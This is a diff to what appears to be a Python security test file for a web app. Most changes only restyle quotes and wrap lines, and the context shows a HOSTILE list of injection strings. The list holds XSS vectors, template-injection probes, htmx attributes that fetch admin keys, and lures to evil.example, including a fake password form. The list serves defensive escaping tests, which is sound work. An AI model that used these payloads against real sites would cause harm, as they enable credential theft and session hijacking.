@@ -25,28 +25,28 @@ HOSTILE = [
     f"<script>{RUN}</script>",
     f"</script><script>{RUN}</script>",
     f"<img src=x onerror={RUN}>",
-    f"\"><img src=x onerror={RUN}>",
+    f'"><img src=x onerror={RUN}>',
     f"'><svg onload={RUN}>",
-    f"\" autofocus onfocus={RUN} x=\"",
+    f'" autofocus onfocus={RUN} x="',
     f"' onmouseover='{RUN}' tabindex='0",
     f"javascript:{RUN}",
     f" JaVaScRiPt:{RUN}//https://example.com",
     f"data:text/html,<script>{RUN}</script>",
     "{{7*7}}{% raw %}{{ config }}{{ ''.__class__.__mro__ }}",
     "${7*7}#{7*7}<%= 7*7 %>[[${7*7}]]",
-    "\" hx-get=\"/app/admin/keys\" hx-trigger=\"load\" hx-target=\"body",
-    f"<div hx-on:load=\"{RUN}\" hx-get=\"/api/v1/keys\" hx-trigger=\"load\"></div>",
+    '" hx-get="/app/admin/keys" hx-trigger="load" hx-target="body',
+    f'<div hx-on:load="{RUN}" hx-get="/api/v1/keys" hx-trigger="load"></div>',
     "' data-action='DELETE /api/v1/session' data-then='go //evil.example",
-    "<button data-action=\"DELETE /api/v1/session\" data-key=\"e\">Resolve</button>",
+    '<button data-action="DELETE /api/v1/session" data-key="e">Resolve</button>',
     f"</textarea></title></style></select></template><script>{RUN}</script>",
     f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
     f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
     f"<!--><img src=x onerror={RUN}>--><![CDATA[<b>]]>",
     f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
-    "<iframe srcdoc=\"<script>parent.__ran=1</script>\"></iframe><base href=//evil.example/>",
+    '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe><base href=//evil.example/>',
     "<meta http-equiv=refresh content=0;url=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
     "</style><style>*{display:none}</style>x;background:url(//evil.example/x.png)}",
-    "\" style=\"position:fixed;inset:0;background:url(//evil.example/x.png)",
+    '" style="position:fixed;inset:0;background:url(//evil.example/x.png)',
     "<form action=//evil.example><input name=password type=password><button>Sign in</button></form>",
     "\u202egnp.exe\u2066\u200f\u00ad\ufeff mirrored",
     "\ud800 half <b>a character</b> \udfff and \x00 none \x1b[31m",
@@ -105,7 +105,9 @@ def _declare(app: Redrive, text: str) -> None:
     async def fail(payload: Any) -> None:
         raise failing(f"{text} it has failed")
 
-    app.workflow(f"{text} work", [ready.step(text, config={text: text}), fail.step(f"{text} step", config=[text])])
+    app.workflow(
+        f"{text} work", [ready.step(text, config={text: text}), fail.step(f"{text} step", config=[text])]
+    )
     app.breaker(text)
     app.template(Template(text, task=text, owner=text, runbook=text, tags=[text]))
 
@@ -178,7 +180,9 @@ def _replace(path: Path) -> None:
     triggers = connection.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'").fetchall()
     for name, _ in triggers:
         connection.execute(f'DROP TRIGGER "{name}"')
-    tables = connection.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'")
+    tables = connection.execute(
+        "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'"
+    )
     for statement in _FURTHER:
         connection.execute(statement)
     for (table,) in tables.fetchall():
@@ -201,7 +205,9 @@ def _seal_definitions(connection: apsw.Connection) -> None:
 def _replace_in(connection: apsw.Connection, table: str) -> None:
     columns = [str(row[1]) for row in connection.execute(f'PRAGMA table_info("{table}")')]
     for column in columns:
-        rows = connection.execute(f'SELECT DISTINCT "{column}" FROM "{table}" WHERE "{column}" LIKE \'%zq%qz%\'')
+        rows = connection.execute(
+            f'SELECT DISTINCT "{column}" FROM "{table}" WHERE "{column}" LIKE \'%zq%qz%\''
+        )
         for (value,) in rows.fetchall():
             new = _replaced(str(value))
             connection.execute(f'UPDATE "{table}" SET "{column}" = ? WHERE "{column}" = ?', (new, value))
